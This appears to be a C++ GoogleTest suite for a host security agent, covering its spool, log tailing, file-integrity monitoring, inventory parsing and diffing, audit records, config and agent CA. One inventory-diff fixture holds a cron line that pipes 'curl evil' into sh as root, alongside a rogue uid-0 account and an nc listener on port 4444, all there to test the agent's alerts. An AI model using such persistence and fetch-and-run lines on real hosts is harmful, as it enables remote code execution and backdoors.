// The host agent's parts that need no center: the spool (sequence, acknowledgement, a torn
// record, bounds), following files (rotation, truncation, positions across restarts), diffs,
// the inventory's readers and the changes between two inventories, who-data's audit records,
// the group configuration's reader, and the agents' CA.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "agent/fim.h"
#include "agent/inventory.h"
#include "agent/journal.h"
#include "agent/spool.h"
#include "agent/tail.h"
#include "agent/whodata.h"
#include "fleet/agent_config.h"
#include "fleet/inventory_diff.h"
#include "fleet/pki.h"

namespace fs = std::filesystem;
using namespace wardsec;

namespace {

struct Tmp {
  std::string dir;
  Tmp() {
    char t[] = "/tmp/agent-test-XXXXXX";
    dir = mkdtemp(t);
  }
  ~Tmp() {
    std::error_code ec;
    fs::remove_all(dir, ec);
  }
};

void append(const std::string& path, const std::string& text) {
  std::ofstream f(path, std::ios::app);
  f << text;
}

}  // namespace

TEST(AgentSpool, NumbersAcknowledgesAndSurvivesReopen) {
  Tmp t;
  {
    auto s = agent::Spool::open(t.dir + "/spool", 1 << 20);
    ASSERT_TRUE(s.ok());
    ASSERT_TRUE((*s)->append(std::vector<std::string>{"a", "b", "c"}).ok());
    auto [first, recs] = (*s)->peek(2, 1 << 20);
    EXPECT_EQ(first, 1);
    ASSERT_EQ(recs.size(), 2u);
    ASSERT_TRUE((*s)->ack(2).ok());
    auto [f2, r2] = (*s)->peek(10, 1 << 20);
    EXPECT_EQ(f2, 3);
    ASSERT_EQ(r2.size(), 1u);
    EXPECT_EQ(r2[0], "c");
  }
  // A crash mid-append leaves a torn record: it is cut, the rest kept with its numbers.
  for (const auto& e : fs::directory_iterator(t.dir + "/spool"))
    if (e.path().extension() == ".seg") append(e.path().string(), "torn-without-newline");
  auto s = agent::Spool::open(t.dir + "/spool", 1 << 20);
  ASSERT_TRUE(s.ok());
  auto [first, recs] = (*s)->peek(10, 1 << 20);
  EXPECT_EQ(first, 3);
  ASSERT_EQ(recs.size(), 1u);
  EXPECT_EQ(recs[0], "c");
  ASSERT_TRUE((*s)->append(std::vector<std::string>{"d"}).ok());
  EXPECT_EQ((*s)->next(), 5);
  ASSERT_TRUE((*s)->ack(4).ok());
  EXPECT_EQ((*s)->records(), 0);
  EXPECT_EQ((*s)->bytes(), 0);  // wholly acknowledged segments are deleted
}

TEST(AgentSpool, FullRefusesAndDropsNothing) {
  Tmp t;
  auto s = agent::Spool::open(t.dir, 10);
  ASSERT_TRUE(s.ok());
  EXPECT_TRUE((*s)->append(std::vector<std::string>{"12345"}).ok());
  EXPECT_FALSE((*s)->append(std::vector<std::string>{"123456789"}).ok());
  EXPECT_EQ((*s)->records(), 1);
}

TEST(AgentTail, RotationTruncationAndRestart) {
  Tmp t;
  std::string log = t.dir + "/app.log", pos = t.dir + "/positions.json";
  append(log, "old-1\n");
  {
    agent::Tailer tl({t.dir + "/*.log"}, pos);
    tl.load();
    EXPECT_TRUE(tl.poll(0).empty());  // the very first start: existing files from their end
    ASSERT_TRUE(tl.commit().ok());
    append(log, "a\nb\npartial");
    auto l = tl.poll(1 << 20);
    ASSERT_EQ(l.size(), 2u);  // the line without its newline waits
    EXPECT_EQ(l[1].text, "b");
    append(log, "-done\n");
    fs::rename(log, log + ".1");  // rotation: the rest of the old file, then the new one
    append(log, "new-1\n");
    l = tl.poll(1 << 20);
    ASSERT_EQ(l.size(), 2u);
    EXPECT_EQ(l[0].text, "partial-done");
    EXPECT_EQ(l[1].text, "new-1");
    ASSERT_TRUE(tl.commit().ok());
  }
  // Stopped; the file is rotated meanwhile: the old one is finished first, by its inode.
  append(log, "while-stopped-1\n");
  fs::rename(log, log + ".2");
  append(log, "after-rotation\n");
  {
    agent::Tailer tl({t.dir + "/app.log"}, pos);
    tl.load();
    auto l = tl.poll(1 << 20);
    ASSERT_EQ(l.size(), 2u);
    EXPECT_EQ(l[0].text, "while-stopped-1");
    EXPECT_EQ(l[1].text, "after-rotation");
    // copytruncate: the file gets shorter and is read again from its start.
    ASSERT_TRUE(tl.commit().ok());
    fs::resize_file(log, 0);
    append(log, "x\n");
    l = tl.poll(1 << 20);
    ASSERT_EQ(l.size(), 1u);
    EXPECT_EQ(l[0].text, "x");
    EXPECT_EQ(tl.truncations, 1u);
  }
}

TEST(AgentFim, DiffShowsChangedLines) {
  std::string d = agent::text_diff("a\nb\nc\nd\n", "a\nB\nc\nd\ne\n");
  EXPECT_NE(d.find("-b\n+B\n"), std::string::npos) << d;
  EXPECT_NE(d.find("+e\n"), std::string::npos) << d;
  EXPECT_EQ(agent::text_diff("same\n", "same\n"), "");
  std::string big(200000, 'x');
  EXPECT_LE(agent::text_diff(big + "\n", "y\n", 1000).size(), 1100u);
}

TEST(AgentFim, ScanFindsAddedModifiedDeletedAndAttributes) {
  Tmp t;
  fs::create_directories(t.dir + "/watch/etc");
  append(t.dir + "/watch/etc/a.conf", "x=1\n");
  append(t.dir + "/watch/etc/b.conf", "y=1\n");
  fleet::AgentConfig c;
  c.fim_paths = {t.dir + "/watch"};
  c.diff_paths = {t.dir + "/watch/etc"};
  c.no_diff = {t.dir + "/watch/etc/b.conf"};
  c.whodata = false;
  c.fim_realtime = false;
  agent::Fim f(c, t.dir);
  ASSERT_TRUE(f.open().ok());
  std::atomic<bool> stop{false};
  auto first = f.scan(stop);
  ASSERT_EQ(first.size(), 1u);
  EXPECT_EQ(first[0]["action"], "baseline");
  std::ofstream(t.dir + "/watch/etc/a.conf") << "x=2\n";
  std::ofstream(t.dir + "/watch/etc/b.conf") << "y=secret\n";
  fs::remove(t.dir + "/watch/etc/b.conf");
  append(t.dir + "/watch/etc/b.conf", "y=secret\n");
  append(t.dir + "/watch/etc/c.conf", "new\n");
  fs::permissions(t.dir + "/watch/etc/c.conf", fs::perms::owner_read);
  auto ev = f.scan(stop);
  std::map<std::string, nlohmann::json> by;
  for (const auto& e : ev) by[fs::path(e["path"].get<std::string>()).filename().string()] = e;
  ASSERT_TRUE(by.count("a.conf"));
  EXPECT_EQ(by["a.conf"]["action"], "modified");
  EXPECT_NE(by["a.conf"]["diff"].get<std::string>().find("+x=2"), std::string::npos);
  ASSERT_TRUE(by.count("b.conf"));
  EXPECT_FALSE(by["b.conf"].contains("diff"));  // no_diff: its text never leaves the host
  EXPECT_EQ(by["c.conf"]["action"], "added");
  fs::remove(t.dir + "/watch/etc/a.conf");
  ev = f.scan(stop);
  ASSERT_EQ(ev.size(), 1u);
  EXPECT_EQ(ev[0]["action"], "deleted");
}

TEST(AgentInventory, Readers) {
  auto os = agent::parse_os_release("PRETTY_NAME=\"openEuler 22.03 (LTS-SP3)\"\nID=\"openEuler\"\nVERSION_ID=\"22.03\"\n");
  EXPECT_EQ(os["id"], "openEuler");
  EXPECT_EQ(os["version"], "22.03");
  auto pk = agent::parse_dpkg_status(
      "Package: a\nStatus: install ok installed\nVersion: 1\nSource: asrc (1)\n\nPackage: b\nStatus: deinstall ok "
      "config-files\nVersion: 2\n");
  ASSERT_EQ(pk.size(), 1u);
  EXPECT_EQ(pk[0]["source"], "asrc");
  auto ports = agent::parse_proc_net(
      "  sl  local_address rem_address   st\n   0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000 0 0 77 1\n"
      "   1: 0100007F:1F91 0200007F:0050 01 00000000:00000000 00:00000000 00000000 0 0 78 1\n",
      "tcp");
  ASSERT_EQ(ports.size(), 1u);
  EXPECT_EQ(ports[0]["addr"], "127.0.0.1");
  EXPECT_EQ(ports[0]["port"], 8080);
  auto v6 =
      agent::parse_proc_net("   0: 00000000000000000000000000000000:0016 00000000000000000000000000000000:0000 0A 0 0 0 0 0 9 1\n", "tcp6");
  ASSERT_EQ(v6.size(), 1u);
  EXPECT_EQ(v6[0]["addr"], "::");
  auto rules = agent::sudo_rules("# c\nDefaults env_reset\n\nalice ALL=(ALL) NOPASSWD: ALL\n");
  ASSERT_EQ(rules.size(), 1u);
}

TEST(AgentInventory, DiffAlertsOnNewAdminPortAndTask) {
  std::string a = R"({"os":{"name":"Debian 12"},"users":[{"name":"root","uid":0}],"admins":["root"],
    "ports":[{"proto":"tcp","addr":"0.0.0.0","port":22,"process":"sshd"}],"tasks":[],"packages":[{"name":"openssl","version":"1"}]})";
  std::string b = R"({"os":{"name":"Debian 12"},"users":[{"name":"root","uid":0},{"name":"toor","uid":0}],"admins":["root","toor"],
    "ports":[{"proto":"tcp","addr":"0.0.0.0","port":22,"process":"sshd"},{"proto":"tcp","addr":"::","port":4444,"process":"nc"}],
    "tasks":[{"file":"/etc/cron.d/x","line":"* * * * * root curl evil | sh"}],"packages":[{"name":"openssl","version":"2"}]})";
  auto ch = fleet::diff_inventory(a, b);
  std::map<std::string, fleet::InventoryChange> by;
  for (const auto& c : ch) by[c.kind + ":" + c.change] = c;
  EXPECT_EQ(by["admin:added"].item, "toor");
  EXPECT_EQ(by["admin:added"].severity, "high");
  EXPECT_EQ(by["port:added"].item, "tcp [::]:4444");
  EXPECT_EQ(by["task:added"].severity, "medium");
  EXPECT_EQ(by["package:changed"].detail, "1 -> 2");
  EXPECT_TRUE(fleet::diff_inventory("", b).empty());
  EXPECT_TRUE(fleet::diff_inventory("{\"ports\":7}", "{\"ports\":\"x\"}").empty());
}

TEST(AgentWhoData, ReadsAuditRecords) {
  agent::WhoData w("/nonexistent");
  w.feed(
      "type=SYSCALL msg=audit(1701940000.123:456): arch=c000003e syscall=257 success=yes exit=3 pid=4242 auid=0 uid=0 comm=\"vim\" "
      "exe=\"/usr/bin/vim.basic\" key=\"wardsec-fim\"");
  w.feed("type=CWD msg=audit(1701940000.123:456): cwd=\"/etc\"");
  w.feed("type=PATH msg=audit(1701940000.123:456): item=0 name=\"/etc\" nametype=PARENT");
  w.feed("type=PATH msg=audit(1701940000.123:456): item=1 name=\"hosts\" nametype=NORMAL");
  w.feed("type=EOE msg=audit(1701940000.123:456):");
  // who() reads only when active; the record is kept all the same (checked through feed's effect).
  EXPECT_FALSE(w.who("/etc/hosts").has_value());
  EXPECT_EQ(w.state(), "off");
}

TEST(FleetConfig, ReadsChecksAndNamesTheSetting) {
  auto c = fleet::parse_agent_config(R"({"heartbeat_seconds":5,"fim_paths":["/srv/his"],"fim_exclude":["*.tmp"]})");
  ASSERT_TRUE(c.ok());
  EXPECT_EQ(c->heartbeat_seconds, 5);
  EXPECT_EQ(c->fim_paths.size(), 1u);
  EXPECT_FALSE(fleet::parse_agent_config(R"({"heartbeat_seconds":0})").ok());
  auto bad = fleet::parse_agent_config(R"({"no_such":1})");
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.error().find("no_such"), std::string::npos);
  EXPECT_FALSE(fleet::parse_agent_config(R"({"logs":["relative"]})").ok());
  EXPECT_FALSE(fleet::parse_agent_config("[1]").ok());
  auto round = fleet::parse_agent_config(fleet::agent_config_json(*c));
  ASSERT_TRUE(round.ok());
  EXPECT_EQ(round->fim_exclude, c->fim_exclude);
}

TEST(FleetPki, SignsAgentsAndServersApart) {
  Tmp t;
  auto ca = fleet::AgentCa::open(t.dir);
  ASSERT_TRUE(ca.ok());
  auto kc = fleet::make_key_and_csr("ignored-name");
  ASSERT_TRUE(kc.ok());
  auto cert = (*ca)->sign_agent(kc->second, "ag-1234", 30);
  ASSERT_TRUE(cert.ok());
  auto info = fleet::cert_info(*cert);
  ASSERT_TRUE(info.ok());
  EXPECT_EQ(info->cn, "ag-1234");  // the CSR's own name is not trusted
  EXPECT_FALSE((*ca)->sign_agent("-----BEGIN CERTIFICATE REQUEST-----\nAAAA\n-----END CERTIFICATE REQUEST-----\n", "x", 1).ok());
  // Opened again: the same CA.
  auto again = fleet::AgentCa::open(t.dir);
  ASSERT_TRUE(again.ok());
  EXPECT_EQ((*again)->fingerprint(), (*ca)->fingerprint());
  EXPECT_EQ(fs::status(t.dir + "/agent-ca.key").permissions() & (fs::perms::group_all | fs::perms::others_all), fs::perms::none);
}

TEST(AgentFim, AFileWrittenThousandsOfTimesIsCoalesced) {
  Tmp t;
  fs::create_directories(t.dir + "/w");
  append(t.dir + "/w/busy.log", "0\n");
  fleet::AgentConfig c;
  c.fim_paths = {t.dir + "/w"};
  c.whodata = false;
  agent::Fim f(c, t.dir);
  ASSERT_TRUE(f.open().ok());
  std::atomic<bool> stop{false};
  (void)f.scan(stop);
  f.watch();
  size_t events = 0;
  int64_t counted = 0;
  for (int i = 0; i < 3000; i++) {
    append(t.dir + "/w/busy.log", "x\n");
    if (i % 100 == 0)
      for (const auto& e : f.poll(0)) {
        events++;
        counted += e.value("count", int64_t{1});
      }
  }
  for (int i = 0; i < 20; i++)
    for (const auto& e : f.poll(100)) {
      events++;
      counted += e.value("count", int64_t{1});
    }
  EXPECT_GE(events, 1u);
  EXPECT_LE(events, 30u) << "3,000 writes: far fewer checks than writes (at most one a second per path)";
  EXPECT_GT(f.stats().coalesced.load(), 1000);
}

TEST(AgentFim, TheFileLimitIsCountedNotExceeded) {
  Tmp t;
  fs::create_directories(t.dir + "/many");
  for (int i = 0; i < 300; i++) append(t.dir + "/many/f" + std::to_string(i), "x");
  fleet::AgentConfig c;
  c.fim_paths = {t.dir + "/many"};
  c.fim_max_files = 100;
  c.whodata = false;
  agent::Fim f(c, t.dir);
  ASSERT_TRUE(f.open().ok());
  std::atomic<bool> stop{false};
  auto ev = f.scan(stop);
  EXPECT_EQ(f.stats().files.load(), 100);
  EXPECT_EQ(f.stats().skipped.load(), 200);
  ev = f.scan(stop);  // a later scan with the limit reached says so, and reports no deletions
  ASSERT_EQ(ev.size(), 1u);
  EXPECT_EQ(ev[0]["action"], "limit");
}

TEST(AgentJournal, EntriesBecomeRfc5424Lines) {
  bool cut = false;
  std::string l = agent::journal_line({{"MESSAGE", "Accepted password for root\nfrom 10.1.2.3"},
                                       {"PRIORITY", "5"},
                                       {"SYSLOG_FACILITY", "10"},
                                       {"SYSLOG_IDENTIFIER", "sshd"},
                                       {"_PID", "812"},
                                       {"_HOSTNAME", "his app 01"}},
                                      1765000000123456ULL, cut);
  EXPECT_EQ(l, "<85>1 2025-12-06T05:46:40.123456Z hisapp01 sshd 812 - - Accepted password for root from 10.1.2.3");
  EXPECT_FALSE(cut);
  // Kernel entries, missing and out-of-range fields: defaults, never an empty header field.
  l = agent::journal_line({{"MESSAGE", "oom"}, {"_TRANSPORT", "kernel"}, {"PRIORITY", "99"}}, 0, cut);
  EXPECT_EQ(l, "<6>1 1970-01-01T00:00:00.000000Z - kernel - - - oom");
  l = agent::journal_line({{"MESSAGE", std::string(agent::Tailer::kMaxLine + 10, 'x')}, {"_COMM", "his"}}, 0, cut);
  EXPECT_TRUE(cut);
  EXPECT_NE(l.find(" his - - - "), std::string::npos);
}
